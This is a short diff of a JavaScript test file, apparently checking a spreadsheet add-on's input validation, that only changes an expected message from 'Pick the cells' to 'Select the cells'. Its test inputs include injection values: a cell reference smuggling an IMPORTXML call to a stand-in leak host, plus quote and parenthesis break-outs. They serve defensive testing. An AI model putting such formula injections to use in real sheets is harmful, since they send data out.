@@ -27,8 +27,8 @@ test.each([
 
 test.each([
   [{ name: 'IMPORTXML' }, 'function'],
-  [{ area: null }, 'Pick the cells'],
-  [{ area: { sheet: 'Sheet1', a1: 'A2;IMPORTXML("http://leak.example")' } }, 'Pick the cells'],
+  [{ area: null }, 'Select the cells'],
+  [{ area: { sheet: 'Sheet1', a1: 'A2;IMPORTXML("http://leak.example")' } }, 'Select the cells'],
   [{ ticked: ['secret"'] }, 'at least one field'],
   [{ name: 'SOCIAL_POSTS', ticked: ['likes'], limit: '21' }, 'from 1 to 20'],
   [{ name: 'SOCIAL_TRACKED', ticked: ['views'], days: '1)+1' }, 'from 1 to 365'],
